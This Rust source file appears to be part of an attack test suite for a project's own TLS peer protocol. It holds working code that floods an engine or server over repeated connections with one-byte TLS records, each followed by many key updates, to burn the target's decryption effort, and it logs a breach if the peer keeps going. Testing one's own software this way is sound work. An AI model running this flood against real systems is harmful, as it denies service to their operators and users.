//! Records of TLS that cost a decryption and carry nothing, by somebody who has the secret.

use std::cell::RefCell;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use farreach::rustls::{ClientConnection, Stream};
use farreach::{Tls, TlsSession};
use farreach_proto::wire::{Decoder, Frame, PREAMBLE_LEN, preamble};

use super::{AttackArgs, HEAD_LEN};
use crate::protocol::{SECRET, connect, encoded, hello, is_closed};
use crate::roles::Attacked;

/// How long a victim may take to answer.
const PATIENCE: Duration = Duration::from_secs(10);

/// Key updates for each byte of content, fewer than rustls allows in a row.
const UPDATES_PER_BYTE: u64 = 31;

/// Frames and bytes of an order that are sent over one connection.
const PINGS: u64 = 2000;
const ORDER_LEN: usize = 16_000;

/// Bytes of content between two looks at the connection.
const BURST: usize = 60;

type Session = TlsSession<ClientConnection>;
type TlsStream<'a> = Stream<'a, ClientConnection, TcpStream>;

/// Connects with a hello, and sends pings of one byte in each record. A victim that answers one has
/// taken everything before it.
pub(super) fn records_to_an_engine(args: &AttackArgs) -> Result<Attacked> {
    let pings: Vec<Frame> = (1..=PINGS).map(|nonce| Frame::Ping { nonce }).collect();
    let pings = encoded(&pings)?;
    // A peer without a rail in common is not kept. The first connection learns which ones there are.
    let (rails, decoder, mut answered) = (RefCell::new(Vec::new()), RefCell::new(Decoder::new()), 0);
    let greet = |stream: &mut TlsStream<'_>| {
        let hello = encoded([&hello("attacker", &rails.borrow())])?;
        stream.write_all(&[&preamble()[..], &hello].concat())?;
        stream.read_exact(&mut [0; PREAMBLE_LEN])?;
        *decoder.borrow_mut() = Decoder::new();
        let told = await_frame(stream, &mut decoder.borrow_mut(), |frame| match frame {
            Frame::Hello(hello) => Some(hello.rails),
            _ => None,
        });
        *rails.borrow_mut() = told.context("the victim sends no hello")?;
        Ok(())
    };
    let goes_on = |session: &mut Session, stream: &mut TcpStream| {
        let mut stream = Stream::new(&mut **session, stream);
        let is_pong = |frame| matches!(frame, Frame::Pong { .. }).then_some(());
        let is_answered = await_frame(&mut stream, &mut decoder.borrow_mut(), is_pong).is_some();
        answered += u64::from(is_answered);
        is_answered
    };
    let mut attacked = flood(args, &pings, greet, goes_on)?;
    if answered > 0 {
        let case = format!("{answered} answers behind {} of them each", BURST as u64 * UPDATES_PER_BYTE);
        attacked.breach("a peer goes on that sends records without content", case);
    }
    Ok(attacked)
}

/// Sends an order of one byte in each record.
pub(super) fn records_to_a_server(args: &AttackArgs) -> Result<Attacked> {
    let order = [&(ORDER_LEN as u32).to_be_bytes()[..], &[b' '; ORDER_LEN]].concat();
    let greet = |stream: &mut TlsStream<'_>| {
        let mut head = [0; HEAD_LEN];
        stream.read_exact(&mut head)?;
        Ok(stream.write_all(&head)?)
    };
    flood(args, &order, greet, |_, stream| !is_closed(stream))
}

/// Reads frames until one is the awaited one; `None` if the connection has ended.
fn await_frame<T>(
    stream: &mut TlsStream<'_>,
    decoder: &mut Decoder,
    is_awaited: impl Fn(Frame) -> Option<T>,
) -> Option<T> {
    let mut chunk = [0; 4096];
    loop {
        while let Some(frame) = decoder.next().ok()? {
            if let Some(awaited) = is_awaited(frame) {
                return Some(awaited);
            }
        }
        let len = stream.read(&mut chunk).ok().filter(|len| *len > 0)?;
        decoder.feed(&chunk[..len]);
    }
}

/// Floods one connection after the other with key updates between bytes of content.
fn flood(
    args: &AttackArgs,
    content: &[u8],
    greet: impl Fn(&mut TlsStream<'_>) -> Result<()>,
    mut goes_on: impl FnMut(&mut Session, &mut TcpStream) -> bool,
) -> Result<Attacked> {
    let (mut attacked, end) = (Attacked::default(), args.end());
    let tls = Tls::from_secret(SECRET.parse().map_err(crate::told)?);
    let mut connections = 0;
    while connections == 0 || (Instant::now() < end && connections < args.count) {
        let mut session = tls.connecting("victim").map_err(crate::told)?;
        let mut stream = connect(args.address)?;
        stream.set_read_timeout(Some(PATIENCE))?;
        if greet(&mut Stream::new(&mut *session, &mut stream)).is_err() {
            attacked.count("greetings without an answer", 1);
            std::thread::sleep(Duration::from_millis(50));
            continue;
        }
        connections += 1;
        attacked.count("connections", 1);
        for burst in content.chunks(BURST) {
            attacked.count("key updates", burst.len() as u64 * UPDATES_PER_BYTE);
            if stream.write_all(&records_of(&mut session, burst)?).is_err()
                || !goes_on(&mut session, &mut stream)
            {
                break;
            }
        }
    }
    attacked.did = attacked.counted();
    Ok(attacked)
}

/// Returns the records of some bytes of content, each with its key updates.
fn records_of(session: &mut Session, content: &[u8]) -> Result<Vec<u8>> {
    for byte in content {
        session.writer().write_all(&[*byte])?;
        for _ in 0..UPDATES_PER_BYTE {
            session.refresh_traffic_keys().context("a key update")?;
        }
    }
    let mut records = Vec::new();
    while session.wants_write() {
        session.write_tls(&mut records)?;
    }
    Ok(records)
}
